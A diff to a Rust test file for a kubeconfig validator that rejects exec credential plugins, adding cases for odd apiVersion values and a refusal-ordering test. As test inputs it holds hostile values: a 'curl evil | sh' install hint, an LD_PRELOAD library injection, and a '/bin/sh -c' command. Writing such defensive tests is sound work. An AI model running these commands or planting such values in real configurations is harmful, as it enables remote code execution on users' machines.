@@ -65,6 +65,8 @@ fn anything_but_the_known_sign_in_is_not_it() {
         with("command", json!("./kubelogin")),
         with("command", json!("kubelogin.exe")),
         with("command", json!("KUBELOGIN")),
+        with("apiVersion", json!("client.authentication.k8s.io/v1alpha1")),
+        with("apiVersion", json!(null)),
         with("env", json!([{ "name": "LD_PRELOAD", "value": "/tmp/x.so" }])),
         with("provideClusterInfo", json!(true)),
         with("installHint", json!("run: curl evil | sh")),
@@ -107,7 +109,7 @@ fn a_program_is_shown_whole_and_in_visible_letters() {
         json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "args": vec!["a"; 100] }),
         json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "args": ["a".repeat(10_000)] }),
         json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "unknown": 1 }),
-        json!({ "apiVersion": "other", "command": "x" }),
+        json!({ "apiVersion": "an other", "command": "x" }),
         json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "" }),
     ] {
         assert_eq!(
@@ -115,4 +117,23 @@ fn a_program_is_shown_whole_and_in_visible_letters() {
             KubeconfigProblem::Refused { member: "exec" }
         );
     }
+}
+
+/// A program is named before anything else that is missing.
+#[test]
+fn a_program_is_refused_by_name_whatever_else_is_wrong() {
+    let mut config = with_exec(json!({ "command": "/bin/sh", "args": ["-c", MARKER] }));
+    config["clusters"][0]["cluster"] = json!({ "server": "https://127.0.0.1:1" });
+    assert_eq!(
+        refused(&config.to_string()),
+        KubeconfigProblem::Refused { member: "exec" }
+    );
+    let mut bare = good();
+    bare["clusters"][0]["cluster"] = json!({ "server": "https://127.0.0.1:1" });
+    assert_eq!(
+        refused(&bare.to_string()),
+        KubeconfigProblem::Missing {
+            part: "certificate-authority-data"
+        }
+    );
 }
